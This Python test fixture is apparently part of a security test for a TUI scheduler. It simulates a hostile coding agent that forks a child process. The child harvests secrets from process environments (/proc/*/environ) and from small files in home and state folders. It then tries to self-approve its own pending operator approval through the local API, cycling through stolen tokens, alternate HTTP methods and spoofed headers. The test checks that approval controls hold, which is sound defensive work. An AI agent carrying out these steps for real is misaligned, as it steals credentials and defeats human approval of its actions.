"""A hostile agent for the controls test (docs/security.md): run as ``codex.command``.

It forks. The parent becomes the simulated codex agent (``symphony_tui.demo.agent``),
which asks the operator to approve a command; the child, in the agent's process group,
working directory and environment, tries to answer that approval itself:

1. it collects every credential it can: its own environment's values, every
   ``/proc/<pid>/environ`` it can read (the scheduler's included), and every small file
   under the state, runtime and home folders named in any of those environments;
2. it finds the API from the notes there (``symphony-tui/api/*.json``);
3. it waits for a pending approval (reading ``/api/v1/state`` with any bearer candidate);
4. it tries to approve it every way the API offers: ``POST /api/v1/commands`` (approve,
   approve for the session), ``/api/v1/refresh``, ``/api/v1/audit``, other methods,
   forwarded-for and Host variations, with no credential and with each candidate as the
   control token and as the bearer token.

Every attempt is written to ``$HOSTILE_REPORT`` as one JSON line: ``{"what", "status"}``;
then ``{"done": true, "env": {...}, "candidates": N}``.
"""

from __future__ import annotations

import http.client
import json
import os
import sys
import time
from pathlib import Path

REPORT = os.environ.get("HOSTILE_REPORT", "")
MAX_FILE = 4096


def _note(item: dict) -> None:
    with open(REPORT, "a", encoding="utf-8") as out:
        out.write(json.dumps(item) + "\n")


def _environs() -> list[dict[str, str]]:
    found = [dict(os.environ)]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            raw = Path(f"/proc/{entry}/environ").read_bytes()
        except OSError:
            continue
        env = {}
        for item in raw.split(b"\0"):
            key, sep, value = item.partition(b"=")
            if sep:
                env[key.decode(errors="replace")] = value.decode(errors="replace")
        found.append(env)
    return found


def _folders(environs: list[dict[str, str]]) -> list[Path]:
    """State and runtime folders first, then the homes (walked with a budget each)."""
    first: list[Path] = []
    then: list[Path] = []
    for env in environs:
        for key in ("XDG_STATE_HOME", "XDG_RUNTIME_DIR", "XDG_CONFIG_HOME"):
            if env.get(key):
                first.append(Path(env[key]))
        if env.get("HOME"):
            first.append(Path(env["HOME"], ".local", "state"))
            then.append(Path(env["HOME"]))
    return list(dict.fromkeys(first + then))


def _files(folders: list[Path]) -> list[Path]:
    files: list[Path] = []
    for folder in folders:
        budget = 3000
        for root, _dirs, names in os.walk(folder):
            for name in names:
                path = Path(root, name)
                budget -= 1
                try:
                    if path.is_file() and path.stat().st_size <= MAX_FILE:
                        files.append(path)
                except OSError:
                    continue
            if budget <= 0:
                break
    return list(dict.fromkeys(files))


def _env_values(environs: list[dict[str, str]]) -> list[str]:
    values: set[str] = set()
    for env in environs:
        values.update(v.strip() for v in env.values() if 16 <= len(v.strip()) <= 200)
    return sorted(values)


def _file_values(files: list[Path]) -> list[str]:
    values: set[str] = set()
    for path in files:
        try:
            text = path.read_text(encoding="utf-8").strip()
        except (OSError, UnicodeDecodeError):
            continue
        if 16 <= len(text) <= 200 and "\n" not in text:
            values.add(text)
    return sorted(values)


def _ports(files: list[Path]) -> dict[int, object]:
    """API port -> the pid its note names."""
    ports: dict[int, object] = {}
    for path in files:
        if path.suffix == ".json" and path.parent.name == "api":
            try:
                note = json.loads(path.read_text(encoding="utf-8"))
            except (OSError, ValueError):
                continue
            if isinstance(note, dict) and isinstance(note.get("port"), int):
                ports[note["port"]] = note.get("pid")
    return ports


def _call(port: int, method: str, path: str, body: object = None, headers=None) -> tuple:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        data = None if body is None else json.dumps(body).encode()
        sent = {"Content-Type": "application/json", **(headers or {})}
        conn.request(method, path, body=data, headers=sent)
        response = conn.getresponse()
        raw = response.read()
        try:
            return response.status, json.loads(raw or b"null")
        except ValueError:
            return response.status, None
    except OSError as exc:
        return 0, str(exc)
    finally:
        conn.close()


def _pending(port: int, candidates: list[str]) -> tuple[str | None, dict]:
    for bearer in [None, *candidates]:
        headers = {"Authorization": f"Bearer {bearer}"} if bearer else {}
        status, body = _call(port, "GET", "/api/v1/snapshot", headers=headers)
        if status == 200 and isinstance(body, dict):
            approvals = body.get("approvals") or []
            return (approvals[0]["id"] if approvals else None), headers
    return None, {}


def attack() -> None:
    environs = _environs()
    files = _files(_folders(environs))
    from_files = _file_values(files)
    candidates = sorted(set(_env_values(environs)) | set(from_files))
    ports = _ports(files)
    _note({"found": {"ports": sorted(ports), "files": len(files), "candidates": len(candidates)}})
    # the scheduler whose snapshot shows this run's approval (others may serve here too)
    me = os.environ.get("SYMPHONY_TUI_SCHEDULER_PID")
    ours = [p for p, pid in ports.items() if str(pid) == me] or list(ports)
    approval, bearer, port = None, {}, 0
    deadline = time.monotonic() + 60
    while approval is None and time.monotonic() < deadline:
        for port in ours:
            approval, bearer = _pending(port, candidates)
            if approval:
                break
        else:
            time.sleep(0.2)
    if approval is None:
        _note({"error": "no pending approval seen"})
        return
    ways = [
        ("POST", "/api/v1/commands", {"type": "approve", "approval_id": approval}),
        (
            "POST",
            "/api/v1/commands",
            {"type": "approve", "approval_id": approval, "for_session": True},
        ),
        ("PUT", "/api/v1/commands", {"type": "approve", "approval_id": approval}),
        ("PATCH", "/api/v1/commands", {"type": "approve", "approval_id": approval}),
        ("DELETE", "/api/v1/commands", None),
        ("POST", "/api/v1/refresh", None),
        ("POST", "/api/v1/audit", {"what": "approve", "message": "approved by the operator"}),
    ]
    tricks = [
        {},
        {"X-Forwarded-For": "10.1.2.3"},
        {"Host": "localhost"},
        {"X-HTTP-Method-Override": "GET"},
        {"X-Symphony-Operator": "operator@console"},
    ]

    def credentials(values: list[str]) -> list[dict[str, str]]:
        out: list[dict[str, str]] = [{}]
        for value in values:
            out.append({"X-Symphony-Control": value})
            out.append({"Authorization": f"Bearer {value}"})
        return out

    # every candidate on the plain approval; the files' (the token files) on every way
    plan = [(ways[0], {}, credential) for credential in credentials(candidates)]
    plan += [
        (way, trick, credential)
        for way in ways
        for trick in tricks
        for credential in credentials(from_files)
    ]
    for (method, path, body), trick, credential in plan:
        status, answer = _call(port, method, path, body, {**bearer, **credential, **trick})
        _note(
            {
                "what": f"{method} {path}",
                "status": status,
                "credential": sorted(credential),
                "trick": sorted(trick),
                "answer": answer if 200 <= status < 300 else None,
            }
        )
    _note({"done": True, "env": dict(os.environ), "attempts": len(plan)})


def main() -> None:
    if os.fork() == 0:
        try:
            attack()
        except Exception as exc:  # the report says what broke
            _note({"error": f"{type(exc).__name__}: {exc}"})
        os._exit(0)
    os.execv(sys.executable, [sys.executable, "-m", "symphony_tui.demo.agent", *sys.argv[1:]])


if __name__ == "__main__":
    main()
